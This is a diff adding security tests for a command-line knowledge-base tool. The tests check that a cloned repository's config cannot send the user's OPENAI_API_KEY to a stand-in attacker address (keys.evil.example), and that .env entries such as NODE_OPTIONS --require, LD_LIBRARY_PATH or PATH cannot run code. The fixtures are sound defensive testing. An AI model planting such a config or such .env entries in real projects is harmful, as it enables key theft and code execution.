@@ -1,0 +1,98 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { folder, write } from '../support/folder.ts';
+import { openOpenAiServer } from '../support/openai-server.ts';
+import { kb, KB, onTerminal, SEQUENCES } from '../support/program.ts';
+import { runCommand } from '../support/run-command.ts';
+
+const ADDRESS = 'https://keys.evil.example/v1';
+const CLONED = {
+  'kb.config.yaml': `chat: { llm: { provider: openai, model: m, options: { base_url: '${ADDRESS}' } } }\nsources: { docs: [a.md] }\n`,
+  '.git/HEAD': '',
+  'a.md': '# Pump\n\nThe bilge pump is blue and stands under the aft deck.\n',
+  'golden.jsonl': '{"question": "Where is the pump?"}\n',
+};
+const env = { OPENAI_API_KEY: 'sk-of-the-user' };
+const ANSWERS = '.local/share/kb/accepted-addresses.jsonl';
+
+describe('in a cloned repository whose configuration names an address', () => {
+  it.each(['chat Where?', 'ingest', 'eval golden.jsonl', 'eval --generate 1', 'doctor --connections', 'collections list'])(
+    'kb %s sends no key there, and names the ways out',
+    async (words) => {
+      const cwd = folder(CLONED);
+      const { code, error } = await runCommand(words.split(' '), { cwd, env });
+      expect(code).toBe(2);
+      expect(error).toContain(`would have it send OPENAI_API_KEY to ${ADDRESS} (chat.llm.options.base_url)`);
+      for (const way of [`--config ${join(cwd, 'kb.config.yaml')}`, 'KB_CONFIG', 'OPENAI_BASE_URL']) expect(error).toContain(way);
+      expect(error).not.toContain(env.OPENAI_API_KEY);
+    },
+  );
+
+  it.each(['serve --port 0', 'mcp', 'watch'])('kb %s does not start', async (words) => {
+    const { code, error } = await kb(words.split(' '), { cwd: folder(CLONED), env });
+    expect([code, error.includes(ADDRESS)]).toEqual([2, true]);
+  });
+
+  it('kb goes on where --config, KB_CONFIG or the environment names file or address, and without a key', async () => {
+    const cwd = folder(CLONED);
+    const file = join(cwd, 'kb.config.yaml');
+    const ways: [string[], Record<string, string>][] = [
+      [['--config', file], env],
+      [[], { ...env, KB_CONFIG: file }],
+      [[], { ...env, OPENAI_BASE_URL: ADDRESS }],
+      [[], {}],
+    ];
+    for (const [words, variables] of ways)
+      expect(await runCommand(['ingest', '--docs', 'a.md', ...words], { cwd, env: variables })).toMatchObject({ code: 0 });
+  });
+
+  it('asks on a terminal, and remembers the answer', async () => {
+    const cwd = folder(CLONED);
+    const no = onTerminal(`${KB} ingest --docs a.md`, { cwd, env });
+    await no.until(/OPENAI_API_KEY to https:\/\/keys\.evil\.example\/v1[^]*Do you trust/);
+    no.child.stdin!.write('n\r');
+    expect([(await no.done).code, existsSync(join(cwd, ANSWERS)), existsSync(join(cwd, '.kb'))]).toEqual([2, false, false]);
+    const yes = onTerminal(`${KB} ingest --docs a.md`, { cwd, env });
+    await yes.until(/Do you trust/);
+    yes.child.stdin!.write('y\r');
+    const { code, out } = await yes.done;
+    expect([code, out.replace(SEQUENCES, '')]).toEqual([0, expect.stringContaining('Stored 1 chunk')]);
+    expect(readFileSync(join(cwd, ANSWERS), 'utf8')).not.toContain(env.OPENAI_API_KEY);
+    expect(await runCommand(['ingest', '--docs', 'a.md'], { cwd, env: { ...env, HOME: folder() } })).toMatchObject({ code: 2 });
+    expect(await kb(['ingest', '--docs', 'a.md'], { cwd, env })).toMatchObject({ code: 0 });
+  });
+
+  it('stops at Ctrl-C in the question', async () => {
+    const cwd = folder(CLONED);
+    const asked = onTerminal(`${KB} ingest --docs a.md`, { cwd, env });
+    await asked.until(/Do you trust/);
+    asked.child.stdin!.write('\u0003');
+    expect([(await asked.done).code, existsSync(join(cwd, ANSWERS))]).toEqual([130, false]);
+  });
+});
+
+it('takes keys, addresses and settings from .env, and nothing that starts programs', async () => {
+  const model = await openOpenAiServer({});
+  const trap = folder();
+  write(trap, { 'trap.cjs': `require('node:fs').writeFileSync(${JSON.stringify(join(trap, 'trapped'))}, '')` });
+  const variables = [
+    `NODE_OPTIONS=--require ${join(trap, 'trap.cjs')}`,
+    `LD_LIBRARY_PATH=${trap}`,
+    `PATH=${trap}`,
+    'OPENAI_API_KEY=sk-of-the-file',
+    `OPENAI_BASE_URL=${model.url}/v1`,
+    'KB_COLLECTION=parts',
+  ];
+  const cwd = folder({
+    'kb.config.yaml': 'chat: { llm: { provider: openai, model: m } }\n',
+    '.env': `${variables.join('\n')}\n`,
+    'a.csv': 'part,price\nvalve,12\n',
+  });
+  expect(await runCommand(['ingest', '--docs', 'a.csv'], { cwd })).toMatchObject({ code: 0 });
+  expect(existsSync(join(trap, 'trapped'))).toBe(false);
+  expect((await runCommand(['collections', 'list'], { cwd })).out).toContain('parts');
+  await runCommand(['chat', 'What does the valve cost?'], { cwd });
+  expect(model.requests.at(-1)?.headers.authorization).toBe('Bearer sk-of-the-file');
+  await model.close();
+});
